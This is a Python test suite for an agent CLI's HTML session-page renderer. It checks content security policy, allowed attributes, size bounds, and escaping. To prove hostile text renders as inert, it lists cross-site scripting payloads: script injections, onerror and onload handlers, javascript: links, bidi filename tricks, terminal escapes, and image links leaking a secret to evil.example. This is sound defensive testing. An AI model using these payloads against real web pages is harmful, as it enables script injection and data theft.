"""The HTML page of a session: complete, bounded, and nothing in it but text, whatever was said."""

import base64
import hashlib
import re
from collections.abc import Iterable
from dataclasses import replace

import anyio
import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from acp_agent.cli.page import write_page
from acp_agent.cli.session_text import NO_ANSWER_TEXT, shown
from acp_agent.core.errors import ToolErrorCategory, ToolFailure
from acp_agent.core.events import (
    PlanChanged,
    PlanEntry,
    TextDelta,
    ThoughtDelta,
    ToolFinished,
    ToolStarted,
    TranscriptEvent,
    UsageChanged,
    UserMessage,
)
from acp_agent.core.messages import LinkPart, ResourcePart, TextPart
from acp_agent.core.sessions import SessionSnapshot, UsageTotals
from acp_agent.core.types import Diff, ImagePart, ToolKind, ToolResult
from acp_agent.text import visible
from tests.rows import each_row
from tests.unit.cli.stored_sessions import at, call, events, picture, saved, telling

# Of each element, the attributes it may have. What is not here is never on a page.
BLOCKS = ("body", "header", "main", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "p", "div", "pre", "blockquote")
LISTS = ("dl", "dt", "dd", "ul", "li", "figure", "figcaption", "table", "thead", "tbody", "tr", "th", "td")
WORDS = ("head", "title", "style", "span", "code", "b", "i", "em", "strong", "s", "br", "hr")
ALLOWED = {
    **{name: {"class"} for name in (*BLOCKS, *LISTS, *WORDS)},
    "html": {"lang"},
    "meta": {"charset", "http-equiv", "content", "name"},
    "a": {"href", "rel"},
    "ol": {"start"},
    "img": {"alt", "src"},
    "details": {"class", "open"},
    "summary": set(),
    "time": {"datetime"},
    "nav": {"aria-label"},
    "section": {"class", "id", "aria-label"},
    "svg": {"width", "height", "role", "aria-label", "y", "viewbox", "preserveaspectratio"},
    "line": {"class", "x2", "y1", "y2"},
    "text": {"class", "x", "y"},
    "circle": {"class", "cx", "cy", "r"},
    "polygon": {"class", "points"},
    "polyline": {"class", "points", "vector-effect"},
}


def page_of(told: Iterable[TranscriptEvent], session: SessionSnapshot | None = None) -> str:
    pieces: list[str] = []

    async def write() -> None:
        await write_page(session or saved(), telling(at(told)), pieces.append)

    anyio.run(write)
    return "".join(pieces)


def parsed(page: str) -> lxml.html.HtmlElement:
    return lxml.html.document_fromstring(page.encode(), parser=lxml.html.HTMLParser(encoding="utf-8", huge_tree=True))


def texts(page: lxml.html.HtmlElement, css_class: str) -> list[str]:
    return [each.text_content() for each in page.xpath(f"//*[contains(concat(' ', @class, ' '), ' {css_class} ')]")]


def assert_harmless(page: str) -> None:
    """Only known elements with known attributes, nothing from elsewhere, nothing hidden."""
    for element in parsed(page).iter():
        assert isinstance(element.tag, str), "no comments, no processing instructions"
        assert set(element.attrib) <= ALLOWED[element.tag], (element.tag, dict(element.attrib))
        assert re.fullmatch(r"https?://[!-~]+|#p\d+|", element.get("href", ""))
        assert re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*|", element.get("src", ""))
    flat = page.replace("\n", " ").replace("\t", " ")
    assert visible(flat) == flat
    page.encode()


# ------------------------------------------------------------------------------------- what it shows


def test_a_page_shows_a_session_from_its_title_to_its_last_answer():
    page = parsed(page_of(events()))
    assert page.findtext(".//h1") == "Mend the rounding of the total"
    assert texts(page, "folder") == ["/projects/shop"]
    figures = dict(zip((e.text for e in page.iter("dt")), (e.text_content() for e in page.iter("dd")), strict=True))
    assert figures["Begun"] == "21 Nov 2025, 07:10"
    assert figures["Model"] == "claude-sonnet-4-5"
    assert (figures["Tokens in"], figures["Tokens out"], figures["Cost"]) == ("159k", "4,310", "$0.101")
    assert len(texts(page, "typed")) == 3
    assert texts(page, "attached")[0] == "prices.py file:///projects/shop/shop/prices.py"
    assert page.xpath("//img/@src") == [f"data:image/png;base64,{picture().data}"]
    assert texts(page, "thought")[0].startswith("ThoughtThe user sees a float artefact. I should look at")
    assert page.xpath("//h3/text()").count("Plan") == 3
    assert texts(page, "answer")[-1].startswith("One more: shop/shipping.py multiplies a weight by a rate.")
    assert [link.get("href") for link in page.xpath("//nav//a")] == ["#p1", "#p2", "#p3"]


def test_a_card_has_name_title_outcome_duration_and_what_was_printed():
    page = parsed(page_of(events()))
    cards = [
        " ".join(card.find("summary").text_content().split())
        for card in page.iter("details")
        if "tool" in card.get("class")
    ]
    assert cards == [
        "read prices.py permanent failure 4 ms",
        "read shop/prices.py done 11 ms",
        "grep total( in shop done 38 ms",
        "bash python -m pytest -q exit 1 1.8 s",
        "edit shop/prices.py done 4.2 s",
        "write tests/test_rounding.py done 1 min 15 s",
        "bash python -m pytest -q done 1.6 s",
        "bash rg 'float|round' shop did not end",
    ]
    screen = texts(page, "screen")[0]
    assert screen.startswith("$ python -m pytest -q\n=====")
    assert "tests/test_prices.py ..........F..." in screen, "without colours"
    assert "6+def total(prices: Iterable[Decimal], discount: int = 0):" in texts(page, "added")
    assert texts(page, "badge") == ["new file"]


def test_a_chart_shows_window_and_cost_over_the_calls():
    page = parsed(page_of(events()))
    assert page.xpath("//figure//svg[@role]/@aria-label") == [
        "Context over 7 model calls: 33k tokens of 64k, 52%",
        "Cost over 7 model calls: $0.101 in all",
    ]
    assert "window 64k" in texts(page, "tick")
    assert len(page.xpath("//polyline")[0].get("points").split()) == 7


@pytest.mark.parametrize(
    "usages",
    [
        [UsageChanged(0, 0)],
        [UsageChanged(10, 200_000)],
        [UsageChanged(n, 1, float("nan")) for n in range(5_000)],
        [UsageChanged(2**70, 2**70, 1e300), UsageChanged(0, 2**70, 0)],
    ],
    ids=["nothing", "hardly anything", "very many", "too much"],
)
def test_a_chart_copes_with_any_numbers(usages):
    page = page_of(usages)
    assert_harmless(page)
    assert "nan" not in page.rpartition("</main>")[2]
    assert len(parsed(page).xpath("//polyline")[0].get("points").split()) <= 1_001


def test_a_session_in_which_nothing_was_said_has_a_page_too():
    page = page_of([], saved("", created_at=-1, updated_at=10**30, model=""))
    assert parsed(page).findtext(".//h1") == "A session"
    assert_harmless(page)


def test_a_page_says_where_no_answer_followed():
    prompt = UserMessage((TextPart("hello"),), "u")
    assert texts(parsed(page_of([prompt])), "note") == [NO_ANSWER_TEXT]
    assert texts(parsed(page_of([prompt, TextDelta("good day", "m")])), "note") == []


def test_a_cost_that_is_not_the_whole_is_said_to_be_the_least():
    assert "at least $0.101" in page_of([], replace(saved(), usage=UsageTotals(cost=0.101, complete=False)))


# --------------------------------------------------------------------------------- what it never does


def test_the_policy_names_the_one_style_and_forbids_all_else():
    page = parsed(page_of(events()))
    (style,) = page.iter("style")
    digest = base64.b64encode(hashlib.sha256(style.text.encode()).digest()).decode()
    assert page.xpath("//meta[@http-equiv]/@content") == [
        f"default-src 'none'; style-src 'sha256-{digest}'; img-src data:; base-uri 'none'; form-action 'none'"
    ]
    assert not re.search(r"@import|url\(|expression|</", style.text)
    assert_harmless(page_of(events()))


HOSTILE = (
    "</script><script>alert(1)</script>",
    "</style><style>*{background:url(//evil.example)}</style>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</pre></details></section></main><iframe src=//evil.example>",
    "<!-- ",
    "]]><?php ?>",
    "&lt;b&gt;&#60;b&#62;&amp",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](https://good.example" onclick="alert(1))',
    "[https://good.example](https://user@evil.example/)",
    "![p](https://evil.example/?secret)",
    "![p](//evil.example/p.png)",
    "[ref]: https://evil.example\n![p][ref]",
    "<https://evil.example/<b>>",
    '```"><b>\n</code></pre><b>x</b>\n```',
    "| <b> | </td> |\n|---|---|\n| <i> | \\| |",
    "**<b>** `</code><b>` ~~__*_<u>_*__~~",
    "1. > - # <h1>\n   1. x\n\n> > </blockquote>",
    "\u202e\u2066txt.exe\u2069",
    "\x00\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07link\x9b2J\r\b",
    "\ud800 \u200b\ufeff\u2028\u2029\u00ad\U000e0041",
    "\t\n\r\n",
    "\\",
)  # fmt: skip


@each_row("hostile", HOSTILE)
def test_hostile_texts_come_out_as_text_wherever_they_stand(hostile):
    page = page_of(everywhere(hostile), saved(hostile, id=hostile, cwd=hostile, model=f"x:{hostile}"))
    assert_harmless(page)
    tree, text = parsed(page), shown(hostile)
    assert tree.findtext(".//h1") == text
    assert texts(tree, "folder") == [text]
    assert texts(tree, "typed") == list(filter(None, [shown(hostile.strip())]))
    assert texts(tree, "name") == [text]
    assert texts(tree, "title") == [text]
    assert tree.xpath("//dl[@class='input']")[0].text_content() == f"{text}{text}!"
    assert {each.text_content() for each in tree.xpath("//figure[@class='diff']//code")} == {text}


@given(st.text(st.sampled_from("<>&\"'`*_~[]()!|\\#-+.:/ \n\t\r1ahtps\x1b\u202e\ud800é"), max_size=80))
@settings(max_examples=settings.default.max_examples * 3)
def test_no_text_is_ever_markup(hostile):
    assert_harmless(page_of(everywhere(hostile), saved(hostile, cwd=hostile)))


def everywhere(text: str) -> list[TranscriptEvent]:
    """One of each kind of event, with the text in every place that takes one."""
    failure = ToolFailure(ToolErrorCategory.TIMEOUT, text, text)
    image = ImagePart(text, text)
    result = ToolResult(
        text,
        display=text,
        envelope={text: text},
        diffs=(Diff(text, text, text + "x"),),
        images=(image,),
        failure=failure,
    )
    return [
        UserMessage((TextPart(text), LinkPart(text, text), ResourcePart(text, text, text), image), text),
        ThoughtDelta(text, "t"),
        TextDelta(text, "m"),
        ToolStarted(text, text, text, ToolKind.EXECUTE, {"command": text, text: f"{text}!"}),
        ToolFinished(text, text, result, 1.0),
        PlanChanged((PlanEntry(text),)),
        UsageChanged(1, 2, 0.5),
    ]


@pytest.mark.parametrize(
    "image",
    [
        ImagePart(base64.b64encode(b"<svg onload='alert(1)'/>").decode(), "image/svg+xml"),
        ImagePart(base64.b64encode(b"<html>").decode() * 9, "text/html"),
        ImagePart('" onerror="alert(1)' * 3, "image/png"),
        ImagePart(picture().data, 'image/png" onerror="alert(1)'),
    ],
    ids=["SVG", "HTML", "no base64", "no type"],
)
def test_only_pictures_of_four_types_are_shown(image):
    page = page_of([UserMessage((image,), "u")])
    assert_harmless(page)
    assert parsed(page).xpath("//img") == []
    assert "a picture that cannot be shown" in page


# ------------------------------------------------------------------------------------ how large it gets


def test_a_page_stays_bounded_however_much_was_printed():
    lines = "\n".join(f"line {n} \x1b[31mof many\x1b[0m" for n in range(20_000))
    long = [
        *call("bash", "seq", ToolKind.EXECUTE, {"command": "seq 9" * 9_000}, ToolResult(lines), 1.0),
        *call("edit", "a", ToolKind.EDIT, {}, ToolResult("", diffs=(Diff("a", lines, lines.replace("1", "2")),)), 1.0),
        TextDelta("word " * 100_000, "m"),
    ]
    page = page_of(long)
    assert len(page) < 400_000
    assert "characters left out" in page
    assert "more lines</td>" in page
    assert_harmless(page)


def test_a_page_that_is_full_goes_on_in_short():
    told: list[TranscriptEvent] = []
    for n in range(500):
        told.extend(call("read", f"file {n}", ToolKind.READ, {"path": "a"}, ToolResult("text\n" * 5_000), 1.0))
    pieces: list[str] = []

    async def write() -> None:
        await write_page(saved(), telling(at(told)), pieces.append)

    anyio.run(write)
    page = "".join(pieces)
    assert len(page) < 10 * 1024 * 1024
    assert max(map(len, pieces)) < 200_000, "in pieces, each of them small"
    assert page.count("From here on the page shows less") == 1
    assert texts(parsed(page), "title")[-1] == "file 499"
